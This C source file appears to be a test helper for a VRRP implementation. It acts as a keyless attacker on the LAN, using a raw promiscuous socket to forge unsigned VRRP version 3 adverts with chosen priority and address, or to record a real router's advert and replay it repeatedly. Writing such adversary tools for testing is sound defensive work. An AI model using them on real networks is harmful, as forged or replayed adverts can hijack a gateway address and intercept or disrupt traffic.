/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Somebody on the LAN who has no key: he says what he likes, and plays what he
 * heard.
 *
 * usage: adverts IFACE forge SOURCE VRID PRIORITY ADDRESS N
 *	  adverts IFACE record SOURCE FILE
 *	  adverts IFACE play FILE N
 *
 * forge sends N adverts of VRRP 3 without a signature, record writes the next
 * one from SOURCE as it is, play sends what is in FILE.
 */
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "vrrp_packet.h"

enum { WAIT_MS = 5000 };

static int
open_socket(const char *ifname)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
	    .sll_protocol = htons(ETH_P_IP),
	    .sll_ifindex = (int)if_nametoindex(ifname)};
	struct packet_mreq group = {
	    .mr_ifindex = to.sll_ifindex, .mr_type = PACKET_MR_PROMISC};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (to.sll_ifindex == 0 || fd < 0 ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &group,
		sizeof(group)) < 0)
		err(1, "%s", ifname);
	return fd;
}

static void
send_all(int fd, const uint8_t *frame, size_t len, const char *times)
{
	for (int n = atoi(times); n > 0; n--)
		if (send(fd, frame, len, 0) != (ssize_t)len)
			err(1, "send");
}

static void
forge(int fd, char **arg)
{
	static const uint8_t mac[6] = {2, 0, 0, 0, 0xde, 0xad};
	uint8_t frame[256], address[4];
	struct vrrp_packet p;
	size_t len;

	vrrp_packet_init(&p, 3, 4, (uint8_t)atoi(arg[1]));
	memcpy(p.f.src_mac, mac, sizeof(mac));
	if (inet_pton(AF_INET, arg[0], p.f.src) != 1 ||
	    inet_pton(AF_INET, arg[3], address) != 1)
		errx(1, "%s, %s: no addresses", arg[0], arg[3]);
	p.priority = (uint8_t)atoi(arg[2]);
	p.interval_ms = 100;
	p.naddr = 1;
	p.addrs = address;
	len = vrrp_encode_frame(frame, sizeof(frame), &p);
	send_all(fd, frame, len, arg[4]);
}

static void
record(int fd, const char *source, const char *path)
{
	struct pollfd ready = {.fd = fd, .events = POLLIN};
	struct vrrp_packet p;
	uint8_t frame[2048], from[4];
	ssize_t n;
	int out;

	if (inet_pton(AF_INET, source, from) != 1)
		errx(1, "%s: no address", source);
	do {
		if (poll(&ready, 1, WAIT_MS) != 1)
			errx(1, "no advert from %s", source);
		n = recv(fd, frame, sizeof(frame), 0);
	} while (n <= 0 || vrrp_decode_frame(&p, frame, (size_t)n) != VRRP_OK ||
		 memcmp(p.f.src, from, sizeof(from)) != 0);
	out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (out < 0 || write(out, frame, (size_t)n) != n || close(out) < 0)
		err(1, "%s", path);
}

static void
play(int fd, const char *path, const char *times)
{
	int in = open(path, O_RDONLY | O_CLOEXEC);
	uint8_t frame[2048];
	ssize_t n;

	n = in < 0 ? -1 : read(in, frame, sizeof(frame));
	if (n <= 0)
		err(1, "%s", path);
	close(in);
	send_all(fd, frame, (size_t)n, times);
}

int
main(int argc, char **argv)
{
	int fd;

	if (argc < 4)
		errx(2, "usage: adverts IFACE forge|record|play ...");
	fd = open_socket(argv[1]);
	if (strcmp(argv[2], "forge") == 0 && argc == 8)
		forge(fd, argv + 3);
	else if (strcmp(argv[2], "record") == 0 && argc == 5)
		record(fd, argv[3], argv[4]);
	else if (strcmp(argv[2], "play") == 0 && argc == 5)
		play(fd, argv[3], argv[4]);
	else
		errx(2, "%s: wrong arguments", argv[2]);
	close(fd);
	return 0;
}
